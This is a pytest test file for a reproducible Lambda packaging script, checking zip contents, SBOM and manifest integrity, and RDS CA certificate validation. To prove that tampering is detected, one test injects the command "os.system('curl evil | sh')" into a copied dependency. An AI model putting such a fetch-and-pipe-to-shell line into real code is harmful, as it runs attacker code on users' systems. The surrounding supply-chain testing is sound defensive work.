"""scripts/package_lambdas.py builds reproducible, complete and lean Lambda packages."""

from __future__ import annotations

import base64
import csv
import datetime
import hashlib
import importlib.util
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from types import ModuleType

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from tests.gates.source_tree import clone, overlay_venv, snapshot_repo

REPO = Path(__file__).resolve().parents[2]
SCRIPT = REPO / "scripts" / "package_lambdas.py"


def load_script() -> ModuleType:
    spec = importlib.util.spec_from_file_location("package_lambdas", SCRIPT)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules["package_lambdas"] = module
    spec.loader.exec_module(module)
    return module


package_lambdas = load_script()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


WHEEL_CACHE = REPO / "build" / "lambda-wheels"
OUTPUTS = ("ingest.zip", "api.zip", "ingest.cdx.json", "api.cdx.json", "manifest.json", "SHA256SUMS")


def build_in(folder: Path, snapshot: Path, *, umask: int, env: dict[str, str]) -> Path:
    """Clone the snapshot into `folder` under `umask`, give it its own interpreter path and wheel cache (a
    copy), and build there with package_lambdas.py as `make package` would. Returns the dist directory."""
    source = clone(snapshot, folder / "rampart", umask=umask)
    python = overlay_venv(folder / "venv")
    cache = folder / "wheels"
    shutil.copytree(WHEEL_CACHE, cache, copy_function=os.link)
    result = subprocess.run(
        [str(python), "scripts/package_lambdas.py", "--cache-dir", str(cache)],
        cwd=source, env=env, capture_output=True, text=True, check=False, umask=umask,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    return source / "dist" / "lambda"


BASE_ENV = {k: v for k, v in os.environ.items() if not k.startswith(("LC_", "LANG", "TZ", "SOURCE_DATE"))}


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The working tree committed once, as a stranger would clone it."""
    package_lambdas.wheel_cache(WHEEL_CACHE)  # download once (the only step that needs the index)
    source = tmp_path_factory.mktemp("snapshot") / "rampart"
    snapshot_repo(source)
    return source


@pytest.fixture(scope="module")
def first_build(tmp_path_factory: pytest.TempPathFactory, snapshot: Path) -> Path:
    """One build in a short folder (umask 022, UTC, C locale): what the SBOM and manifest tests read. Tests that
    need only this build do not pay for the second."""
    short = tmp_path_factory.mktemp("b")
    return build_in(
        short, snapshot, umask=0o022,
        env={**BASE_ENV, "TZ": "UTC", "LANG": "C.UTF-8", "HOME": str(short), "PYTHONHASHSEED": "0"},
    )  # fmt: skip


@pytest.fixture(scope="module")
def two_builds(tmp_path_factory: pytest.TempPathFactory, snapshot: Path, first_build: Path) -> tuple[Path, Path]:
    """The working tree built twice, as two strangers would: two clones in folders whose paths differ in length,
    each with its own interpreter path and wheel-cache path, under umask 022 and 077, different time zones,
    locales, home folders, hash seeds and SOURCE_DATE_EPOCH."""
    long = tmp_path_factory.mktemp("a-much-longer-build-folder-name-" + "x" * 60)
    second = build_in(
        long, snapshot, umask=0o077,
        env={
            **BASE_ENV, "TZ": "Pacific/Kiritimati", "LANG": "de_DE.UTF-8", "LC_ALL": "tr_TR.UTF-8",
            "HOME": str(long), "PYTHONHASHSEED": "4242", "SOURCE_DATE_EPOCH": "1700000000",
        },
    )  # fmt: skip
    assert len(str(first_build)) != len(str(second))
    assert (second.parent.parent / "pyproject.toml").stat().st_mode & 0o077 == 0, "umask 077 did not apply"
    return first_build, second


def test_two_builds_in_different_folders_are_byte_identical(two_builds: tuple[Path, Path]) -> None:
    first, second = two_builds
    for name in OUTPUTS:
        assert sha256(first / name) == sha256(second / name), f"{name} depends on where or how it was built"
    manifest = json.loads((first / "manifest.json").read_text())
    assert manifest["source_clean"] is True  # a clone of one commit: a release-grade build
    assert manifest["artifacts"]["ingest.zip"]["sha256"] == sha256(first / "ingest.zip")


def test_no_record_lists_a_file_that_is_not_shipped(first_build: Path) -> None:
    """jmespath's RECORD listed bin/jp.py, whose shebang names the build's interpreter (issue 15)."""
    with zipfile.ZipFile(first_build / "ingest.zip") as archive:
        names = set(archive.namelist())
        records = [n for n in names if n.endswith(".dist-info/RECORD")]
        assert any(r.startswith("jmespath-") for r in records)
        for record in records:
            rows = [row for row in csv.reader(io.StringIO(archive.read(record).decode())) if row]
            listed = [row[0] for row in rows]
            assert listed[:-1] == sorted(listed[:-1]) and listed[-1] == record, record
            assert set(listed) <= names, (record, sorted(set(listed) - names))


def test_a_shipped_file_that_names_the_build_folder_fails_the_build(tmp_path: Path) -> None:
    leaky = tmp_path / "direct_url.json"
    leaky.write_text(json.dumps({"url": f"file://{tmp_path}/wheels/x.whl"}))
    clean = tmp_path / "ok.py"
    clean.write_text("A = 1\n")
    package_lambdas.check_no_build_paths({"ok.py": clean}, [tmp_path])
    with pytest.raises(SystemExit, match="contains the build path"):
        package_lambdas.check_no_build_paths({"ok.py": clean, "x.dist-info/direct_url.json": leaky}, [tmp_path])


def test_package_contents(first_build: Path) -> None:
    with zipfile.ZipFile(first_build / "ingest.zip") as archive:
        infos = archive.infolist()
    names = [info.filename for info in infos]
    assert names == sorted(names)
    for required in (
        "rampart/__init__.py",
        "rampart/ingest/handler.py",
        "rampart/api/handler.py",
        "aws_lambda_powertools/__init__.py",
        "pydantic/__init__.py",
        "psycopg2/__init__.py",
    ):
        assert required in names, required
    # aarch64 CPython 3.12 extension modules, not the build machine's.
    natives = [n for n in names if n.endswith(".so") and n.startswith(("psycopg2/", "pydantic_core/"))]
    assert natives and all("cpython-312-aarch64-linux-gnu" in n for n in natives), natives
    for name in names:
        assert not name.startswith(("rampart/local/", "rampart/cli/", "bin/")), name
        assert name != "rampart/client.py", name
        assert "__pycache__" not in name and not name.endswith(".pyc"), name
        assert not name.endswith("direct_url.json"), name
        assert not name.startswith(("boto3/", "botocore/")), "boto3 comes with the Lambda runtime"
    assert {info.date_time for info in infos} == {(1980, 1, 1, 0, 0, 0)}
    assert {info.external_attr >> 16 for info in infos} == {0o100644}
    assert {info.compress_type for info in infos} == {zipfile.ZIP_DEFLATED}


# ---------------------------------------------------------------------------------------------
# The SBOM beside each zip, and the build manifest (make verify-artifacts)
# ---------------------------------------------------------------------------------------------

sbom = package_lambdas.sbom
build_manifest = package_lambdas.build_manifest
LOCK = REPO / "requirements" / "lambda.txt"


def wheels() -> dict[tuple[str, str], Path]:
    return sbom.wheel_index(package_lambdas.wheel_cache(WHEEL_CACHE))


@pytest.mark.parametrize("name", ["ingest", "api"])
def test_sbom_lists_exactly_the_distributions_in_the_zip(first_build: Path, name: str) -> None:
    dist = first_build
    zip_path, sbom_path = dist / f"{name}.zip", dist / f"{name}.cdx.json"
    assert sbom.check_sbom(zip_path, sbom_path, wheels=wheels(), lock=LOCK) == []
    bom = json.loads(sbom_path.read_text())
    assert bom["specVersion"] == "1.6" and bom["metadata"]["component"]["name"] == f"rampart-{name}"
    assert "serialNumber" not in bom and "timestamp" not in bom["metadata"]  # reproducible
    with zipfile.ZipFile(zip_path) as archive:
        dist_infos = {n.split("/")[0] for n in archive.namelist() if n.split("/")[0].endswith(".dist-info")}
    listed = {p["value"] for c in bom["components"] for p in c["properties"] if p["name"] == "rampart:dist-info"}
    assert listed == dist_infos and len(bom["components"]) == len(dist_infos)


def _edit_bom(source: Path, target: Path, edit: str) -> None:
    bom = json.loads(source.read_text())
    components = bom["components"]
    if edit == "missing":
        components.pop()
    elif edit == "extra":
        components.append({**components[0], "name": "left-pad", "purl": "pkg:pypi/left-pad@1.0", "version": "1.0"})
    elif edit == "version":
        components[0]["version"] = "0.0.1"
    elif edit == "hash":
        components[0]["hashes"] = [{"alg": "SHA-256", "content": "0" * 64}]
    elif edit == "subject":
        bom["metadata"]["component"]["hashes"] = [{"alg": "SHA-256", "content": "1" * 64}]
    target.write_text(json.dumps(bom))


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ("missing", "is in the zip but not in the SBOM"),
        ("extra", "is in the SBOM but not in the zip"),
        ("version", "is in the SBOM but not in the zip"),
        ("hash", "is not pinned by the lock"),
        ("subject", "subject hash"),
    ],
)
def test_sbom_check_catches_an_sbom_that_lies(first_build: Path, tmp_path: Path, edit: str, message: str) -> None:
    dist = first_build
    lie = tmp_path / "ingest.cdx.json"
    _edit_bom(dist / "ingest.cdx.json", lie, edit)
    problems = sbom.check_sbom(dist / "ingest.zip", lie, wheels=wheels(), lock=LOCK)
    assert any(message in p for p in problems), problems


def test_sbom_check_catches_a_zip_whose_files_are_not_the_wheels(first_build: Path, tmp_path: Path) -> None:
    """A file of a listed distribution changed inside the zip: its RECORD row and the wheel both disagree."""
    dist = first_build
    tampered = tmp_path / "ingest.zip"
    with zipfile.ZipFile(dist / "ingest.zip") as source, zipfile.ZipFile(tampered, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "jmespath/__init__.py":
                data += b"\nimport os; os.system('curl evil | sh')\n"
            target.writestr(info, data)
    sbom_copy = tmp_path / "ingest.cdx.json"
    bom = json.loads((dist / "ingest.cdx.json").read_text())
    bom["metadata"]["component"]["hashes"] = [{"alg": "SHA-256", "content": sha256(tampered)}]
    sbom_copy.write_text(json.dumps(bom))
    problems = sbom.check_sbom(tampered, sbom_copy, wheels=wheels(), lock=LOCK)
    assert any("RECORD hash of jmespath/__init__.py" in p for p in problems), problems
    assert any("jmespath/__init__.py differs from jmespath-" in p for p in problems), problems


def verify(dist: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(REPO / "scripts" / "build_manifest.py"), "verify", "--dir", str(dist), *extra],
        capture_output=True, text=True, check=False,
    )  # fmt: skip


@pytest.mark.parametrize("tamper", ["none", "zip", "zip-same-size", "sbom", "extra-file", "missing-zip", "commit"])
def test_verify_artifacts_checks_dist_against_the_manifest(first_build: Path, tmp_path: Path, tamper: str) -> None:
    dist = shutil.copytree(first_build, tmp_path / "lambda")
    commit = json.loads((dist / "manifest.json").read_text())["commit"]
    expect = ["--commit", commit]
    if tamper == "zip":
        with (dist / "api.zip").open("ab") as handle:
            handle.write(b"\0")
    elif tamper == "zip-same-size":  # one byte changed, the size kept: only a digest can tell
        data = bytearray((dist / "api.zip").read_bytes())
        data[len(data) // 2] ^= 0xFF
        (dist / "api.zip").write_bytes(bytes(data))
    elif tamper == "sbom":
        (dist / "api.cdx.json").write_text((dist / "api.cdx.json").read_text().replace('"1.6"', '"1.5"'))
    elif tamper == "extra-file":
        (dist / "evil.zip").write_bytes(b"PK")
    elif tamper == "missing-zip":
        (dist / "ingest.zip").unlink()
    elif tamper == "commit":
        expect = ["--commit", "0" * 40]
    result = verify(dist, *expect)
    assert (result.returncode == 0) is (tamper == "none"), result.stdout + result.stderr
    if tamper != "none":
        assert "FAIL" in result.stdout


def test_the_manifest_records_what_the_issue_asks(first_build: Path) -> None:
    manifest = json.loads((first_build / "manifest.json").read_text())
    assert re.fullmatch(r"[0-9a-f]{40}", manifest["commit"])
    assert set(manifest["locks"]) == {"requirements/lambda.txt", "requirements/dev.txt"}
    assert manifest["locks"]["requirements/lambda.txt"] == sha256(LOCK)
    assert manifest["target"]["python_version"] == "3.12"
    assert "manylinux_2_28_aarch64" in manifest["target"]["platforms"]
    assert manifest["target"]["wheel_tags"] and manifest["builder"]["zlib"]
    for name in ("ingest.zip", "api.zip"):
        entry = manifest["artifacts"][name]
        data = (first_build / name).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest() and entry["size"] == len(data)
        assert entry["code_sha256"] == base64.b64encode(hashlib.sha256(data).digest()).decode()
        assert entry["sbom"]["sha256"] == sha256(first_build / entry["sbom"]["file"])
    sums = (first_build / "SHA256SUMS").read_text().splitlines()
    assert f"{manifest['artifacts']['api.zip']['sha256']}  api.zip" in sums


def test_payload_digest_ignores_what_lies_outside_the_members(tmp_path: Path) -> None:
    """A signature appended outside the members (zip comment) keeps the payload digest; a changed member not."""
    tree = tmp_path / "a.py"
    tree.write_text("A = 1\n")
    package_lambdas.write_zip(tmp_path / "one.zip", {"a.py": tree})
    with zipfile.ZipFile(tmp_path / "one.zip", "a") as archive:
        archive.comment = b"signature-stand-in"
    package_lambdas.write_zip(tmp_path / "two.zip", {"a.py": tree})
    assert sha256(tmp_path / "one.zip") != sha256(tmp_path / "two.zip")
    assert build_manifest.payload_sha256(tmp_path / "one.zip") == build_manifest.payload_sha256(tmp_path / "two.zip")
    tree.write_text("A = 2\n")
    package_lambdas.write_zip(tmp_path / "three.zip", {"a.py": tree})
    assert build_manifest.payload_sha256(tmp_path / "three.zip") != build_manifest.payload_sha256(tmp_path / "two.zip")


def test_zip_writer_ignores_mtime_mode_and_order(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    a, b = tree / "pkg" / "a.py", tree / "b.txt"
    a.write_text("A = 1\n")
    b.write_text("b\n")
    package_lambdas.write_zip(tmp_path / "one.zip", {"pkg/a.py": a, "b.txt": b})
    os.utime(a, (1_700_000_000, 1_700_000_000))
    a.chmod(0o755)
    package_lambdas.write_zip(tmp_path / "two.zip", {"b.txt": b, "pkg/a.py": a})
    assert sha256(tmp_path / "one.zip") == sha256(tmp_path / "two.zip")
    b.write_text("changed\n")
    package_lambdas.write_zip(tmp_path / "three.zip", {"pkg/a.py": a, "b.txt": b})
    assert sha256(tmp_path / "one.zip") != sha256(tmp_path / "three.zip")


def test_over_budget_fails(tmp_path: Path) -> None:
    with pytest.raises(SystemExit, match="over budget"):
        package_lambdas.main(["--out-dir", str(tmp_path), "--budget-mib", "1"])


# ---------------------------------------------------------------------------------------------
# The RDS CA bundle: checked, shipped as rampart/certs/rds-ca.pem, required where deploys build
# ---------------------------------------------------------------------------------------------


def pem_certificate(common_name: str) -> bytes:
    """A self-signed CA certificate (PEM) whose subject is `common_name` and organisation Test."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, common_name),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Test"),
        ]
    )
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM)


@pytest.fixture(scope="module")
def rds_bundle() -> bytes:
    return pem_certificate("Amazon RDS eu-central-1 Root CA RSA2048 G1") + pem_certificate(
        "Amazon RDS eu-central-1 Root CA ECC384 G1"
    )


def test_rds_ca_check_accepts_amazon_rds_certificates(tmp_path: Path, rds_bundle: bytes) -> None:
    bundle = tmp_path / "rds-ca.pem"
    bundle.write_bytes(rds_bundle)
    assert package_lambdas.check_rds_ca(bundle) == 2
    assert package_lambdas.main(["--check-rds-ca", str(bundle)]) == 0


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<html>503 Service Unavailable</html>", "no PEM certificate"),
        (b"-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n", "does not parse"),
        ("other", "not issued to Amazon RDS"),
        ("mixed", "not issued to Amazon RDS"),
    ],
)
def test_rds_ca_check_rejects_anything_else(
    tmp_path: Path, rds_bundle: bytes, content: bytes | str, message: str
) -> None:
    if content == "other":
        content = pem_certificate("Evil Root CA")
    elif content == "mixed":
        content = rds_bundle + pem_certificate("Evil Root CA")
    assert isinstance(content, bytes)
    bundle = tmp_path / "bundle.pem"
    bundle.write_bytes(content)
    with pytest.raises(SystemExit, match=message):
        package_lambdas.check_rds_ca(bundle)


def test_rds_ca_source_prefers_the_download_then_src(tmp_path: Path, rds_bundle: bytes) -> None:
    download, committed = tmp_path / "build" / "rds-ca.pem", tmp_path / "src" / "rds-ca.pem"
    committed.parent.mkdir()
    committed.write_bytes(rds_bundle)
    assert package_lambdas.rds_ca_source((download, committed), require=True) == committed
    download.parent.mkdir()
    download.write_bytes(rds_bundle)
    assert package_lambdas.rds_ca_source((download, committed), require=True) == download
    download.write_bytes(pem_certificate("Evil Root CA"))
    with pytest.raises(SystemExit, match="not issued to Amazon RDS"):
        package_lambdas.rds_ca_source((download, committed), require=False)


def test_rds_ca_missing_fails_only_when_required(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sources = (tmp_path / "build" / "rds-ca.pem", tmp_path / "src" / "rds-ca.pem")
    monkeypatch.delenv("RAMPART_REQUIRE_RDS_CA", raising=False)
    assert package_lambdas.rds_ca_source(sources) is None
    monkeypatch.setenv("RAMPART_REQUIRE_RDS_CA", "1")
    with pytest.raises(SystemExit, match="RAMPART_REQUIRE_RDS_CA=1 but there is no RDS CA bundle"):
        package_lambdas.rds_ca_source(sources)


def test_required_bundle_stops_the_build_before_any_zip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAMPART_REQUIRE_RDS_CA", "1")
    monkeypatch.setattr(package_lambdas, "RDS_CA_SOURCES", (tmp_path / "none.pem",))
    monkeypatch.setattr(package_lambdas.rds_ca_source, "__defaults__", ((tmp_path / "none.pem",),))
    out = tmp_path / "out"
    with pytest.raises(SystemExit, match="no RDS CA bundle"):
        package_lambdas.main(["--out-dir", str(out)])
    assert not list(out.glob("*.zip"))


def test_bundle_is_shipped_as_rampart_certs(tmp_path: Path, rds_bundle: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = tmp_path / "rds-ca.pem"
    bundle.write_bytes(rds_bundle)
    monkeypatch.setattr(package_lambdas.rds_ca_source, "__defaults__", ((bundle,),))
    package_lambdas.main(["--out-dir", str(tmp_path / "out")])
    for name in ("ingest.zip", "api.zip"):
        with zipfile.ZipFile(tmp_path / "out" / name) as archive:
            assert archive.read("rampart/certs/rds-ca.pem") == rds_bundle


FAKE_CURL = r"""#!/usr/bin/env bash
# Records its arguments and writes $FAKE_CURL_BODY to --output.
echo "$*" > "$FAKE_CURL_LOG"
out=
while [[ $# -gt 0 ]]; do [[ $1 == --output ]] && out=$2; shift; done
cat "$FAKE_CURL_BODY" > "$out"
"""


@pytest.mark.parametrize("good", [True, False], ids=["rds-bundle", "foreign-bundle"])
def test_make_rds_ca_downloads_over_tls_checks_and_writes(tmp_path: Path, rds_bundle: bytes, good: bool) -> None:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "curl").write_text(FAKE_CURL)
    (bindir / "curl").chmod(0o755)
    body = tmp_path / "body.pem"
    body.write_bytes(rds_bundle if good else pem_certificate("Evil Root CA"))
    target = tmp_path / "build" / "rds-ca.pem"
    env = {
        **os.environ,
        "PATH": f"{bindir}:{os.environ['PATH']}",
        "FAKE_CURL_LOG": str(tmp_path / "curl.log"),
        "FAKE_CURL_BODY": str(body),
    }
    result = subprocess.run(
        ["make", "--no-print-directory", "rds-ca", f"RDS_CA_FILE={target}"],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    args = (tmp_path / "curl.log").read_text().split()
    assert args[:4] == ["--proto", "=https", "--tlsv1.2", "--fail"]
    assert args[-1] == "https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem"
    if good:
        assert result.returncode == 0, result.stdout + result.stderr
        assert target.read_bytes() == rds_bundle
    else:
        assert result.returncode != 0 and "not issued to Amazon RDS" in result.stdout + result.stderr
        assert not target.exists()
    assert [p.name for p in target.parent.iterdir()] == (["rds-ca.pem"] if good else []), "temp file left"
